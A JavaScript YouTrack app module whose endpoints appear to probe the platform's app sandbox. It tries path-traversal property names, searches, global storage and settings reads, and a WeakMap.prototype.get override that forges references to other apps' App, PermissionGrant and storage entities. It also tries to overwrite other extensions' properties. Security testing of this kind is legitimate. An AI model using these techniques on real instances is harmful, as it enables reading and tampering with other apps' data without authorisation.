const entities = require('@jetbrains/youtrack-scripting-api/entities');
const search = require('@jetbrains/youtrack-scripting-api/search');
const names = ['ext:storage:text', 'storage:text', 'storage.text', 'text', 'extensionProperties.text', '../storage:text', 'ext:snoop:../storage:text'];
const ways = {
  properties: (issue) => names.map((name) => issue.extensionProperties[name]),
  members: (issue) => names.map((name) => issue[name]),
  fields: (issue) => names.map((name) => issue.fields[name]),
  is: (issue) => names.map((name) => issue.is(name, 'Слово')),
  was: (issue) => names.map((name) => issue.was(name, 'Слово')),
  oldValue: (issue) => names.map((name) => issue.oldValue(name)),
  isChanged: (issue) => names.map((name) => issue.isChanged(name)),
  required: (issue) => names.map((name) => { try { issue.required(name, 'empty'); return 'has a value'; } catch (e) { return null; } }),
  'fields.is': (issue) => names.map((name) => issue.fields.is && issue.fields.is(name, 'Слово')),
  find: () => names.map((name) => entities.Issue.findByExtensionProperties({ [name]: 'Слово' }).size),
  search: () => names.map((name) => search.search(null, { query: '', extensionPropertiesQuery: { [name]: 'Слово' } }).size),
  query: () => names.map((name) => search.search(null, name + ': Слово').size),
  keys: (issue) => [...Object.keys(issue.extensionProperties), ...Object.getOwnPropertyNames(issue)].filter((name) => name === 'text'),
  storage: (issue, ctx) => ['globalCounter', 'storage:globalCounter'].map((name) => ctx.globalStorage.extensionProperties[name]),
  settings: (issue, ctx) => ['other', 'http', 'storage'].map((name) => ctx.settings[name]),
  types: () => ['App', 'AppUsage', 'PermissionGrant', 'Package'].map((name) => entities[name]),
  'forged reference': (issue) => {
    const original = WeakMap.prototype.get;
    const own = issue.summary;
    const found = [];
    for (const id of ['169-1', '170-1', '171-1', '172-1']) for (const type of ['App', 'AppUsage', 'PermissionGrant', 'AppGlobalStorage']) {
      WeakMap.prototype.get = () => ({ type, id });
      for (const name of ['settings', 'package', 'keys', 'name', 'summary']) try { const value = issue.oldValue(name) || issue[name] || issue.is(name, '*'); if (value && value !== own) found.push(type + ' ' + name + ' ' + value); } catch (e) { }
    }
    WeakMap.prototype.get = original;
    return found;
  },
};

exports.httpHandler = {
  endpoints: [
    {
      method: 'GET', path: 'way', scope: 'issue',
      handle: (ctx) => {
        const name = ctx.request.getParameter('name');
        let found;
        try { found = ways[name](ctx.issue, ctx); } catch (e) { found = []; }
        ctx.response.json({ found: found.filter((value) => value !== undefined && value !== null && value !== false && value !== 0) });
      },
    },
    {
      method: 'POST', path: 'write', scope: 'issue',
      handle: (ctx) => {
        names.forEach((name) => { try { ctx.issue.extensionProperties[name] = 'overwritten'; } catch (e) { } });
        ctx.response.text('tried');
      },
    },
  ],
};
